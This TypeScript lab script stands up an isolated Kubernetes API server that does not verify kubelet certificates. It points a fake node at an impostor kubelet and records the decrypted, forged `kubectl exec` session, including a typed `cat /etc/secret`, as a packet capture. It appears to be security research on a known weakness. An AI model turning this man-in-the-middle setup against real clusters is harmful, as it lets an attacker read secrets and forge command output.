// Records what a man in the middle decrypts of `kubectl exec`, with a real API server that verifies no kubelet.
// Usage, as root on Linux: node scripts/lab/exec/record-exec.ts --kube-apiserver FILE --etcd FILE --kubectl FILE --folder FOLDER
// The programs run in a network namespace of their own, in which there is nothing but these addresses, so nothing leaves the machine.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { parseArgs } from 'node:util';
import { CertificateAuthority, selfSigned, type Credential } from '../network/certificate-authority.ts';
import { Room, within } from '../network/laboratory-room.ts';
import { kubeletImpostor } from './kubelet-impostor.ts';
import { segmentsIn, tlsWords } from './wire-record.ts';

/** The addresses of the older captures, which the API server takes for those of a cluster: it refuses to reach a node on 127.0.0.0/8. */
const addresses = { apiServer: '10.99.0.1', attacker: '10.99.0.3' } as const;
const kubeletPort = 10250;
/** What the record of a capture has: bytes of a segment, and segments. */
const [recordedBytes, mostFrames] = [256, 40];
const captureName = 'kubelet-exec-noca-mitm';
const [adminToken, namespace, pod, container] = ['admin', 'lab', 'pod-mitm', 'c'];

/** What is typed, key by key, and what the man in the middle answers. */
const session = { command: 'sh', keys: 'cat /etc/secret\r', end: 'exit', prompt: '# ', answer: 'This answer is forged.' } as const;

const { values } = parseArgs({
  options: {
    'kube-apiserver': { type: 'string' },
    etcd: { type: 'string', default: 'etcd' },
    kubectl: { type: 'string', default: 'kubectl' },
    folder: { type: 'string' },
    inside: { type: 'boolean', default: false },
  },
});
const apiServerFile = values['kube-apiserver'];
const folder = values.folder;
if (!apiServerFile || !folder) {
  console.error(
    'This needs --kube-apiserver, the program, and --folder, where the recording goes. etcd and kubectl are found by the PATH, or named.',
  );
  process.exit(2);
}

if (!values.inside) {
  const { status } = spawnSync('unshare', ['--net', process.execPath, ...process.argv.slice(1), '--inside'], { stdio: 'inherit' });
  process.exit(status ?? 1);
}

const run = (file: string, ...args: readonly string[]): string => {
  const { status, stdout, stderr, error } = spawnSync(file, args, { encoding: 'utf8' });
  if (status !== 0) throw new Error(`${file} ${args.join(' ')} failed: ${error?.message ?? stderr}`);
  return stdout;
};

run('ip', 'link', 'set', 'lo', 'up');
for (const address of Object.values(addresses)) run('ip', 'address', 'add', `${address}/32`, 'dev', 'lo');

const room = new Room();
const file = (name: string, text: string): string => {
  const place = path.join(room.folder, name);
  writeFileSync(place, text, { mode: 0o600 });
  return place;
};
const pair = (name: string, { cert, key }: Credential) => [file(`${name}.crt`, cert), file(`${name}.key`, key)] as const;
const start = (program: string, args: readonly string[], log: string): ChildProcess => {
  const child = spawn(program, args, { stdio: ['pipe', 'pipe', 'pipe'] });
  room.keepProcess(child);
  const lines: Buffer[] = [];
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (piece: Buffer) => lines.push(piece));
  room.onClose(() => writeFileSync(path.join(folder, `${log}.log`), Buffer.concat(lines)));
  return child;
};

async function record(): Promise<void> {
  const ca = await CertificateAuthority.create('cluster CA');
  const serving = pair('apiserver', await ca.issue({ commonName: 'kube-apiserver', addresses: [addresses.apiServer] }));
  const asClient = pair('client', await ca.issue({ commonName: 'kube-apiserver-kubelet-client' }));
  const signer = pair('service-accounts', await selfSigned({ commonName: 'service accounts' }));
  const impostor = kubeletImpostor({
    presents: await selfSigned({ commonName: 'system:node:node-mitm', addresses: [addresses.attacker] }),
    prompt: session.prompt,
    answer: session.answer,
    end: session.end,
  });
  await new Promise<void>((resolve) => impostor.server.listen(kubeletPort, addresses.attacker, resolve));
  room.onClose(() => void impostor.server.close());

  const etcdUrl = 'http://127.0.0.1:2379';
  start(
    values.etcd,
    ['--data-dir', path.join(room.folder, 'etcd'), '--listen-client-urls', etcdUrl, '--advertise-client-urls', etcdUrl],
    'etcd',
  );
  start(
    apiServerFile as string,
    [
      `--etcd-servers=${etcdUrl}`,
      `--bind-address=${addresses.apiServer}`,
      `--advertise-address=${addresses.apiServer}`,
      '--service-cluster-ip-range=10.98.0.0/24',
      `--tls-cert-file=${serving[0]}`,
      `--tls-private-key-file=${serving[1]}`,
      `--client-ca-file=${file('ca.crt', ca.certificate)}`,
      `--token-auth-file=${file('tokens.csv', `${adminToken},admin,admin,system:masters\n`)}`,
      `--service-account-key-file=${signer[0]}`,
      `--service-account-signing-key-file=${signer[1]}`,
      '--service-account-issuer=https://lab',
      '--authorization-mode=Node,RBAC',
      '--disable-admission-plugins=ServiceAccount',
      // As kubeadm sets it: a client certificate, and no --kubelet-certificate-authority.
      `--kubelet-client-certificate=${asClient[0]}`,
      `--kubelet-client-key=${asClient[1]}`,
    ],
    'kube-apiserver',
  );
  const access = [
    `--server=https://${addresses.apiServer}:6443`,
    `--token=${adminToken}`,
    '--insecure-skip-tls-verify',
    '--kubeconfig=/dev/null',
  ];
  const kubectl = (...args: readonly string[]) => run(values.kubectl, ...access, ...args);
  const isReady = () => spawnSync(values.kubectl, [...access, 'get', '--raw=/readyz']).status === 0;
  await within(
    'the API server',
    (async () => {
      while (!isReady()) await pause(500);
    })(),
    180_000,
  );

  const objects = [
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name: namespace } },
    { apiVersion: 'v1', kind: 'Node', metadata: { name: 'node-mitm' } },
    {
      ...{ apiVersion: 'v1', kind: 'Pod', metadata: { name: pod, namespace } },
      spec: { nodeName: 'node-mitm', containers: [{ name: container, image: 'none' }] },
    },
  ];
  for (const object of objects) kubectl('create', '-f', file('object.json', JSON.stringify(object)));
  const status = {
    addresses: [{ type: 'InternalIP', address: addresses.attacker }],
    daemonEndpoints: { kubeletEndpoint: { Port: kubeletPort } },
  };
  kubectl('patch', 'node', 'node-mitm', '--subresource=status', '--type=merge', '-p', JSON.stringify({ status }));

  const wire = path.join(folder as string, 'exec.pcap');
  start('tcpdump', ['-i', 'lo', '-U', '-s', '0', '-w', wire, 'tcp', 'port', String(kubeletPort)], 'tcpdump');
  await pause(1500);
  const command = [values.kubectl, ...access, '-n', namespace, 'exec', '-it', pod, '-c', container, '--', session.command].join(' ');
  // `script` gives kubectl a terminal, so that it sends each key as it is typed.
  const terminal = spawn('script', ['-qfec', command, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
  room.keepProcess(terminal);
  let screen = '';
  terminal.stdout.on('data', (piece: Buffer) => (screen += piece.toString()));
  const ended = new Promise<number | null>((resolve) => terminal.once('close', resolve));
  // The impostor answers once the API server has opened its streams.
  await within(
    'the streams of the exec',
    (async () => {
      while (!impostor.decrypted.some(({ channel }) => channel === 'stdout')) await pause(50);
    })(),
  );
  await pause(500);
  for (const key of `${session.keys}${session.end}\r`) {
    terminal.stdin.write(key);
    await pause(120);
  }
  const exit = await within('the end of kubectl', ended);
  await pause(1000);
  const version = JSON.parse(kubectl('get', '--raw=/version')) as { gitVersion: string };
  const client = JSON.parse(run(values.kubectl, 'version', '--client', '-o', 'json')) as { clientVersion: { gitVersion: string } };
  const segments = segmentsIn(readFileSync(wire));
  const began = segments[0]?.time ?? 0;
  const [asked, answered] = ['kube-apiserver', 'MITM relay'];
  const frames = segments.map(({ fromPort, time, payload }) => ({
    from: fromPort === kubeletPort ? answered : asked,
    to: fromPort === kubeletPort ? asked : answered,
    t_ms: Math.round((time - began) / 10) / 100,
    len: payload.length,
    bytes_hex: payload.subarray(0, recordedBytes).toString('hex'),
    text: tlsWords(payload),
  }));
  const record = {
    id: captureName,
    link: 'apiserver->kubelet',
    mode: 'no-ca,client-cert,active-mitm, exec',
    flags: ['--kubelet-client-certificate', '--kubelet-client-key'],
    direction: 'apiserver dials what it thinks is the kubelet',
    recorded: {
      day: new Date().toISOString().slice(0, 10),
      kubernetes: version.gitVersion.replace(/^v/, ''),
      kubectl: client.clientVersion.gitVersion.replace(/^v/, ''),
      command: `kubectl exec -it ${pod} -c ${container} -- ${session.command}`,
      exit,
      terminal: screen,
    },
    totalFrames: frames.length,
    frames: frames.slice(0, mostFrames),
    decrypted: impostor.decrypted,
    notes:
      'The API server completes the handshake with the certificate of the attacker, and asks it for the exec. The attacker speaks SPDY/3.1 and plays a shell.',
    plaintextMarkersVisible: [],
  };
  writeFileSync(path.join(folder as string, `${captureName}.json`), `${JSON.stringify(record, null, 1)}\n`);
  const keys = file('keys', impostor.keyLog.join(''));
  run('editcap', '--inject-secrets', `tls,${keys}`, wire, path.join(folder as string, `${captureName}.pcapng`));
  console.log(`${impostor.decrypted.length} messages in ${frames.length} segments; kubectl ended with ${exit}.`);
}

mkdirSync(folder, { recursive: true });
try {
  await record();
} finally {
  await room.close();
}
process.exit();
